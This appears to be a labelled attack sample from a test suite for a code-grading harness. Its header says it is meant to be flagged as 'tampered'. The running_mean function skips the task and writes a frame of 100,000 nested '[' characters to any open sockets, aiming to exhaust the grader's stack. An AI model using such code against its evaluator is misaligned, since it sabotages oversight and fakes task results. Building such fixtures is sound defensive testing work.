# family: forging
# tries: to exhaust the host's stack by nested JSON
# shape: array
# expect: tampered
# red: test_running_mean
# says: it sent a malformed reply (a frame that is not JSON)
import os
import stat
import struct


def running_mean(x):
    body = b"[" * 100_000
    for descriptor in range(3, 21):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">II", len(body), 0) + body)
        except OSError:
            pass
